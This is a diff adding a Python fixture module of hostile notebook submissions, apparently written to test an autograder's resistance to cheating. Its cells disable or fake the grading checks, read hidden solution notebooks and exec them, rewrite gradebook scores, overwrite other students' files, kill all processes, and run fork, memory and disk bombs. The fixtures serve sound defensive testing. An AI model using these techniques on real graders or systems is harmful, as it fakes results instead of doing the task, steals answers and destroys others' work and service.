@@ -1,0 +1,264 @@
+"""The hostile class's attacks: the code each bad submission puts in a cell.
+
+Each constant is the source of one cell (most end with a wrong answer to task 1.1, so that
+an attack which forged a pass would show); `build_class` in `__init__` puts them in
+notebooks and says what each must score.
+"""
+
+WRONG_1_1 = '''def residual_stack(x, depth=20):
+    return x * 2
+'''
+
+PATCH_CHECKS = '''import builtins, math, sys, types
+import autograder.checks as checks
+checks.check_value = lambda *args, **kwargs: None
+checks.check_gradient = lambda *args, **kwargs: 1.1 ** 20
+fake = types.ModuleType("autograder.checks")
+fake.__dict__.update(checks.__dict__)
+sys.modules["autograder.checks"] = fake
+''' + WRONG_1_1
+
+PATCH_BUILTINS = '''import builtins, math
+builtins.abs = lambda x: float("inf")   # every tolerance becomes infinite
+math.isclose = lambda *args, **kwargs: True
+''' + WRONG_1_1
+
+PATCH_MID_TEST = '''def residual_stack(x, depth=20):
+    # called by the test cell: switch off the rest of the checks from inside the test
+    import builtins, contextlib, math
+    import autograder.checks as checks
+    g = globals()
+    g["check_value"] = lambda *args, **kwargs: None
+    g["check_gradient"] = lambda *args, **kwargs: 1.1 ** 20
+    checks.check_value = lambda *args, **kwargs: None
+    checks._as_number = lambda obj, what: 1.1 ** 20
+    builtins.abs = lambda x: float("inf")
+    math.isclose = lambda *args, **kwargs: True
+    contextlib._GeneratorContextManager.__exit__ = lambda *args: True
+    return x * 2
+'''
+
+TAMPER_DURING_TEST = '''def residual_stack(x, depth=20):
+    import math
+    math.isclose = lambda *args, **kwargs: True  # right answer, but it tampers as well
+    for _ in range(depth):
+        x = x + layer(x)
+    return x
+'''
+
+IPYTHON_HOOKS = '''ip = get_ipython()
+ip.set_custom_exc((BaseException,), lambda *args, **kwargs: None)  # swallow every error
+ip.showtraceback = lambda *args, **kwargs: None
+def _blank_tests(lines):
+    return ["pass\\n"] if any("autograder.checks" in line for line in lines) else lines
+ip.input_transformers_cleanup.append(_blank_tests)  # test cells become `pass`
+''' + WRONG_1_1
+
+FAKE_SUCCESS = '''def residual_stack(x, depth=20):
+    print("Task 1.1 (output): every check in this cell passed.")
+    print("Task 1.1 (gradient): every check in this cell passed.")
+    try:  # a result in a test cell's output is nbgrader's partial credit
+        get_ipython().displayhook(2)
+    except Exception:
+        pass
+    return x * 2
+print("Task 1.1 (output): every check in this cell passed.")
+'''
+
+RUNTIME_SHADOW = '''import os, sys
+for base in (os.getcwd(), "/tmp"):
+    os.makedirs(os.path.join(base, "autograder"), exist_ok=True)
+    open(os.path.join(base, "autograder", "__init__.py"), "w").close()
+    with open(os.path.join(base, "autograder", "checks.py"), "w") as f:
+        f.write("class _Ok:\\n    def __enter__(self): return self\\n"
+                "    def __exit__(self, *a): return True\\n"
+                "def __getattr__(name):\\n    return lambda *a, **k: _Ok()\\n")
+    sys.path.insert(0, base)
+for name in [m for m in sys.modules if m.startswith("autograder")]:
+    del sys.modules[name]
+''' + WRONG_1_1
+
+READ_SECRETS = '''import glob, os, socket
+targets = {targets!r}
+found = []
+for path in targets:
+    try:
+        with open(path, "rb") as f:
+            f.read(100)
+        found.append(path)
+    except Exception as exc:
+        print(path, type(exc).__name__)
+for root, dirs, files in os.walk("/"):
+    if root.startswith(("/proc", "/sys", "/usr")):
+        dirs[:] = []
+        continue
+    for name in files:
+        path = os.path.join(root, name)
+        if name.endswith((".ipynb", ".db")):
+            try:
+                text = open(path, errors="replace").read()
+            except Exception:
+                continue
+            if "BEGIN HIDDEN TESTS" in text or "BEGIN SOLUTION" in text or name.endswith(".db"):
+                found.append(path)
+print("found:", found)
+for path in found:  # with the instructor's notebook, the solution is one exec away
+    try:
+        import json as _json
+        for cell in _json.load(open(path))["cells"]:
+            source = "".join(cell["source"])
+            if "def residual_stack" in source and "BEGIN SOLUTION" in source:
+                exec(source.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))
+    except Exception as exc:
+        print("could not use", path, exc)
+try:
+    socket.create_connection(("1.1.1.1", 443), timeout=3)
+    print("network: reachable")
+except OSError as exc:
+    print("network:", exc)
+'''
+
+WRITE_OTHERS = '''import os, signal, sqlite3
+for path in {gradebooks!r}:
+    try:
+        db = sqlite3.connect(path, timeout=1)
+        db.execute("UPDATE grade SET auto_score = 1000")
+        db.commit()
+        print("gradebook written:", path)
+    except Exception as exc:
+        print(path, type(exc).__name__, exc)
+for path in {victims!r}:
+    try:
+        with open(path, "w") as f:
+            f.write("not a notebook any more")
+        print("overwrote", path)
+    except Exception as exc:
+        print(path, type(exc).__name__)
+try:
+    os.kill(-1, signal.SIGKILL)  # every process this user may signal
+except Exception as exc:
+    print("kill:", exc)
+'''
+
+FORK_BOMB = '''import os, time
+children = 0
+while True:
+    pid = os.fork()
+    if pid == 0:
+        while True:
+            time.sleep(1)
+    children += 1
+'''
+
+MEMORY_BOMB = '''table = bytearray(640 * 1024 ** 3)  # 640 GiB
+''' + WRONG_1_1
+
+DISK_FILLER = '''import os
+try:
+    with open("big", "wb") as f:
+        f.write(b"x" * (200 * 1024 * 1024))
+except OSError as exc:
+    print("one big file:", exc)
+i = 0
+try:
+    while True:
+        with open(f"part{i}", "wb") as f:
+            f.write(b"x" * (32 * 1024 * 1024))
+        i += 1
+except OSError as exc:
+    print("many files:", i, exc)
+'''
+
+
+# ---- attacks on the grading machinery inside the kernel (the kernel is only a witness)
+
+CODE_SWAP = '''import autograder.checks as c
+c.check_value.__code__ = (lambda *args, **kwargs: None).__code__
+c.check_gradient.__code__ = (lambda f, x, what, *a, **k: 1.1 ** 20).__code__
+''' + WRONG_1_1
+
+DEFAULTS_SWAP = '''from autograder.checks import check_value
+check_value.__defaults__ = ("", 1e300, 1e300, True)  # every tolerance enormous
+''' + WRONG_1_1
+
+TASK_PATCH = '''from autograder.checks import task
+task.__exit__ = lambda self, *args: True  # swallow every failure inside a test
+''' + WRONG_1_1
+
+KERNEL_MACHINERY = '''import json
+kernel = get_ipython().kernel
+real = kernel.do_execute
+async def do_execute(code, silent, *args, **kwargs):
+    if code.startswith("#%residual-pack graded test "):
+        header = json.loads(code.split("\\n", 1)[0][len("#%residual-pack graded test "):])
+        return {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": [],
+                "residual_pack": {"nonce": header.get("nonce"), "records": [],
+                                  "restored": [], "changed": []}}
+    return await real(code, silent, *args, **kwargs)
+kernel.do_execute = do_execute
+''' + WRONG_1_1
+
+AUDIT_HOOK = '''import sys
+def hook(event, args):
+    if event == "exec":  # the test cell starts: send its observations elsewhere
+        w = sys.modules.get("autograder.witness")
+        if w is not None and w._state.get("records") is not None:
+            w._state["records"] = []
+sys.addaudithook(hook)
+''' + WRONG_1_1
+
+HANDED_FUNCTION = '''def input_gradient(stack, x, depth):
+    # a hidden test hands in a function of its own: switch its checks off through it
+    g = getattr(stack, "__globals__", {})
+    for name in ("check_value", "check_gradient", "check_values"):
+        if name in g:
+            g[name] = lambda *args, **kwargs: None
+    return 0.001
+'''
+
+FRAME_WALK = '''import sys
+def residual_stack(x, depth=20):
+    frame = sys._getframe(1)
+    while frame is not None:  # patch the checks wherever the test keeps them
+        for space in (frame.f_globals, frame.f_locals):
+            for name in ("check_value", "check_gradient"):
+                if name in space:
+                    space[name] = lambda *args, **kwargs: None
+        frame = frame.f_back
+    return x * 2
+'''
+
+GC_HELPERS = '''import gc
+def residual_stack(x, depth=20):
+    for obj in gc.get_objects():  # every copy of the checks, wherever the grader made it
+        if callable(obj) and getattr(obj, "__name__", "") in ("check_value", "settle"):
+            try:
+                obj.__code__ = (lambda *args, **kwargs: None).__code__
+            except Exception:
+                pass
+    return x * 2
+'''
+
+CTYPES_POKE = '''import ctypes
+from autograder import checks
+target = ctypes.cast(id(checks), ctypes.py_object).value
+target.check_value = lambda *args, **kwargs: None
+''' + WRONG_1_1
+
+BIG_MESSAGE = '''from IPython.display import display
+display({"text/plain": "x" * (70 << 20)}, raw=True)  # one 70 MiB message
+'''
+
+SOCKET_FILLER = '''import os, sys
+folder = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])  # the sockets' folder
+written = 0
+try:
+    with open(os.path.join(folder, "filler"), "wb") as f:
+        for _ in range(300):
+            f.write(b"x" * (1 << 20))
+            f.flush()
+            written += 1
+except OSError as exc:
+    print("stopped:", type(exc).__name__)
+print(f"socket folder: wrote {written} MiB")
+'''
